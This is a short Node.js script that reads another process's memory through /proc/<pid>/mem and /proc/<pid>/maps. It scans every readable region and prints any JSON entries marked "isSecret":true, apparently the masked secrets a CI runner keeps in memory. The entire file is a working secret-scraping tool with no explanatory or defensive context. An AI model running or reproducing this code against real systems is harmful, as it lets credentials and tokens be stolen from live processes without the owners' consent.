const fs = require('node:fs');

const pid = process.argv[2];
const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n')) {
  const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
  if (from === undefined) continue;
  const chunk = Buffer.alloc(parseInt(to, 16) - parseInt(from, 16));
  try {
    fs.readSync(memory, chunk, 0, chunk.length, parseInt(from, 16));
  } catch {} // of what cannot be read, nothing
  for (const [secret] of chunk.toString('latin1').matchAll(/"\w+":\{"value":"[^"]*","isSecret":true\}/g))
    console.log(secret);
}
